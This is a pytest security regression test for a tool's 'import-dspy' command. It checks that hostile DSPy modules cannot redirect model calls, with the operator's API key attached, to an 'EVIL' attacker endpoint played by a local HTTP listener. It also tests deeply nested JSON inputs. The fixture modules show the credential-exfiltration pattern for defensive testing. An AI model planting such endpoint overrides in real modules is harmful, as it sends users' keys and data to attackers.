"""A DSPy module's call options choose no endpoint (review of issue 9 against ``import-dspy``).

``dspy.Predict(sig, api_base=...)`` keeps ``api_base`` in the predictor's config and passes it on every
call, and DSPy lets a call's options override its LM's: ``stepbridge import-dspy`` of such a predictor
sent the sample, with ``Authorization: Bearer <operator key>``, to the address the module chose (1
request per sample). Here the attacker is a real HTTP listener, the operator's profile a real reference
LM server, and the CLI a real process."""

from __future__ import annotations

import http.server
import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from stepbridge.reference_lm import ServerURL

KEY = "operator-key-not-shaped-like-one"

MODULES = '''
import dspy

EVIL = "{evil}"


def bare_api_base():
    return dspy.Predict("question -> answer", api_base=EVIL, api_key="module-key")


def bare_base_url_and_headers():
    return dspy.Predict("question -> answer", base_url=EVIL, extra_headers={{"x-api-key": "m"}})


class SwapsModel(dspy.Module):
    def __init__(self):
        super().__init__()
        self.p = dspy.Predict("question -> answer", model="openai/attacker-model", api_base=EVIL)

    def forward(self, question):
        return self.p(question=question)
'''


class _Evil(http.server.BaseHTTPRequestHandler):
    seen: list[dict[str, Any]] = []

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("content-length") or 0))
        self.seen.append({"path": self.path, "auth": self.headers.get("authorization"), "body": body.decode()})
        self.send_response(500)
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def evil() -> Iterator[tuple[str, list[dict[str, Any]]]]:
    seen: list[dict[str, Any]] = []
    handler = type("Evil", (_Evil,), {"seen": seen})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/v1", seen
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("target", ["bare_api_base", "bare_base_url_and_headers", "SwapsModel"])
def test_import_sends_nothing_where_the_module_says(tmp_path: Path, server: ServerURL,
                                                   evil: tuple[str, list[dict[str, Any]]], target: str) -> None:
    url, seen = evil
    (tmp_path / "hostile_mods.py").write_text(MODULES.format(evil=url))
    (tmp_path / "samples.jsonl").write_text('{"question": "what is the secret plan"}\n')
    script = Path(sys.executable).with_name("stepbridge")
    env = {**os.environ, "STEPBRIDGE_LM_BASE_URL": str(server), "STEPBRIDGE_LM_MODEL": "openai/reference",
           "STEPBRIDGE_LM_API_KEY_ENV": "REVIEW_OPERATOR_KEY", "REVIEW_OPERATOR_KEY": KEY}
    done = subprocess.run([str(script), "import-dspy", f"hostile_mods:{target}", "-o", "out.yaml",
                           "--sample-inputs", "samples.jsonl", "--json"], cwd=tmp_path, env=env,
                          capture_output=True, text=True, timeout=300)
    assert seen == [], seen  # not one request reached the module's address
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stdout + done.stderr[-2000:]
    report = json.loads(done.stdout)
    assert report["ok"] and report["report"]["verified"]
    written = (tmp_path / "out.yaml").read_text()
    assert url not in written and "attacker-model" not in written and KEY not in done.stdout + done.stderr


@pytest.mark.parametrize("option", ["--sample-inputs", "--state"])
def test_import_of_too_deep_json_files_is_a_usage_error(tmp_path: Path, option: str) -> None:
    """5,000-deep JSON in --sample-inputs was a RecursionError traceback, exit 1."""
    (tmp_path / "mods.py").write_text("import dspy\n\ndef make():\n    return dspy.Predict('question -> answer')\n")
    (tmp_path / "deep.json").write_text('{"question": ' + "[" * 5000 + "]" * 5000 + "}\n")
    script = Path(sys.executable).with_name("stepbridge")
    done = subprocess.run([str(script), "import-dspy", "mods:make", "-o", "out.yaml", option, "deep.json"],
                          cwd=tmp_path, capture_output=True, text=True, timeout=300)
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr[-2000:]
    assert "recursion" in done.stderr
